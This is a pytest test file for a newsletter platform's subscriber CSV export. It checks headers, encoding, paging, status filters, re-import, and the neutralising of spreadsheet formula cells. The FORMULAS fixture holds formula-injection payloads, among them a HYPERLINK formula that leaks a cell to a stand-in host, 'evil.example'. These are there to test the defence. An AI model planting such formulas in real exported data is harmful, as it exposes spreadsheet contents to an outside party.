"""A practitioner downloads their list: safe in a spreadsheet, complete, and importable again."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from saas.audience.imports import export_copy, exports
from saas.audience.imports.exports import FORMULA_STARTS
from saas.audience.models import Subscriber, SubscriberTag, Tag
from saas.core.extensions import db
from saas.core.tenancy import bound_to
from saas.publishing.models import Publication
from tests.audience.test_imports import latest_import, readers, upload
from tests.conftest import USING_POSTGRES, login

FORMULAS = {
    "hyperlink@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "plus@example.com": "+1",
    "minus@example.com": "-2",
    "at@example.com": "@SUM(A1:A9)",
    "tab@example.com": "\tTabbed",
    "cr@example.com": "\rReturned",
}
START = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)


@pytest.fixture()
def owner(factories, client):
    user = factories.user(email="owner@example.com")
    login(client, "owner@example.com")
    return user


@pytest.fixture()
def pub(factories, owner):
    return factories.publication(owner=owner, slug="letters")


def tag(app, pub, email: str, *names: str) -> None:
    with app.app_context(), bound_to(pub.id):
        reader = db.session.scalar(select(Subscriber).where(Subscriber.email == email))
        for name in names:
            row = db.session.scalar(select(Tag).where(Tag.name == name))
            if row is None:
                row = Tag(publication_id=pub.id, name=name)
                db.session.add(row)
                db.session.flush()
            db.session.add(
                SubscriberTag(publication_id=pub.id, subscriber_id=reader.id, tag_id=row.id)
            )
        db.session.commit()


def export_rows(client, query: str = "") -> list[list[str]]:
    response = client.get(f"/dashboard/letters/subscribers/export.csv{query}")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_export_is_a_private_utf8_attachment_excel_reads_correctly(app, client, factories, pub):
    factories.subscriber(pub, email="zoe@example.com", name="Zoë")
    response = client.get("/dashboard/letters/subscribers/export.csv")
    assert response.mimetype == "text/csv"
    assert response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="letters-')
    assert response.headers["Cache-Control"] == "no-store"
    raw = response.get_data()
    assert raw.startswith(b'\xef\xbb\xbf"email","name","status","tags","source",')
    assert "Zoë".encode() in raw


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(app, client, factories, pub):
    for email, name in FORMULAS.items():
        factories.subscriber(pub, email=email, name=name)
    factories.subscriber(pub, email="-dash@example.com", name="Plain Name")
    factories.subscriber(pub, email="=cmd@example.com", name="Also plain")
    rows = export_rows(client)
    assert rows[0] == ["email", "name", "status", "tags", "source", "created_at", "confirmed_at"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["hyperlink@example.com"] == "'" + FORMULAS["hyperlink@example.com"]
    assert names["plus@example.com"] == "'+1"
    assert names["minus@example.com"] == "'-2"
    assert names["at@example.com"] == "'@SUM(A1:A9)"
    assert names["tab@example.com"] == "'\tTabbed"
    assert names["cr@example.com"] == "'\rReturned"
    assert names["'-dash@example.com"] == "Plain Name"
    assert names["'=cmd@example.com"] == "Also plain"


def test_export_then_import_into_another_publication_gives_the_same_readers(
    app, client, factories, owner, pub
):
    # Imports tidy whitespace in names, so leave out the tab and carriage-return ones here.
    formulas = {email: name for email, name in FORMULAS.items() if not name[0].isspace()}
    for i, (email, name) in enumerate(formulas.items()):
        factories.subscriber(pub, email=email, name=name, created_at=START + timedelta(hours=i))
    factories.subscriber(pub, email="-dash@example.com", name="Dash", created_at=START)
    factories.subscriber(pub, email="pending@example.com", status="pending", created_at=START)
    factories.subscriber(pub, email="gone@example.com", status="unsubscribed", created_at=START)
    factories.subscriber(pub, email="bounced@example.com", status="bounced", created_at=START)
    factories.subscriber(pub, email="zoe@example.com", name="Zoë, Brontë", created_at=START)
    tag(app, pub, "zoe@example.com", "vip", "Spring workshop")
    tag(app, pub, "gone@example.com", "vip")
    exported = client.get("/dashboard/letters/subscribers/export.csv").get_data()

    other = factories.publication(owner=owner, slug="second")
    assert upload(app, client, other, exported, "letters.csv").status_code == 303
    import_ = latest_import(app, other)
    assert import_.detected_format == "tend"
    assert (import_.imported_count, import_.rejected_count) == (9, 0)

    def essentials(pub_):
        return {
            email: (r["name"], r["status"], r["tags"], r["created_at"].replace(microsecond=0))
            for email, r in readers(app, pub_).items()
        }

    assert essentials(other) == essentials(pub)


def test_export_can_be_limited_to_one_status(app, client, factories, pub):
    factories.subscriber(pub, email="in@example.com")
    factories.subscriber(pub, email="out@example.com", status="unsubscribed")
    rows = export_rows(client, "?status=unsubscribed")
    assert [row[0] for row in rows[1:]] == ["out@example.com"]
    assert client.get("/dashboard/letters/subscribers/export.csv?status=nope").status_code == 404


def test_export_pages_through_a_long_list_without_skipping_or_repeating(
    app, client, factories, pub, monkeypatch
):
    monkeypatch.setattr("saas.audience.imports.exports.PAGE_ROWS", 3)
    expected = set()
    for i in range(10):
        # Several readers share a timestamp, so the id must break ties between pages.
        when = START + timedelta(minutes=i // 4)
        expected.add(factories.subscriber(pub, email=f"r{i}@example.com", created_at=when).email)
    factories.subscriber(factories.publication(slug="elsewhere"), email="not-mine@example.com")
    emails = [row[0] for row in export_rows(client)[1:]]
    assert len(emails) == 10
    assert set(emails) == expected


@pytest.mark.skipif(not USING_POSTGRES, reason="the COPY export is PostgreSQL's")
def test_postgresql_copy_writes_the_same_file_as_the_portable_writer(app, factories, pub):
    awkward = {
        "quote@example.com": 'Say "hi", then leave',
        "lines@example.com": "Two\nlines",
        "accents@example.com": "Zoë Ñúñez",
        "empty@example.com": "",
        **FORMULAS,
    }
    for n, (email, name) in enumerate(awkward.items()):
        factories.subscriber(
            pub, email=email, name=name, created_at=START + timedelta(seconds=n // 2)
        )
    factories.subscriber(pub, email="pending@example.com", status="pending")
    with app.app_context(), bound_to(pub.id):
        for name in ("=SUM(1)", "retreat", "client"):
            db.session.add(Tag(publication_id=pub.id, name=name))
        db.session.flush()
        tags = db.session.scalars(select(Tag)).all()
        for reader in db.session.scalars(select(Subscriber)).all()[::2]:
            for tag in tags:
                db.session.add(
                    SubscriberTag(publication_id=pub.id, subscriber_id=reader.id, tag_id=tag.id)
                )
        db.session.commit()
        publication = db.session.get(Publication, pub.id)
        for status in (None, "pending"):
            copied = "".join(export_copy.subscriber_rows(publication, status, FORMULA_STARTS))
            written = "".join(exports.keyset_rows(publication, status))
            assert copied == written
            assert copied.count('"\n') >= (1 if status else len(awkward))
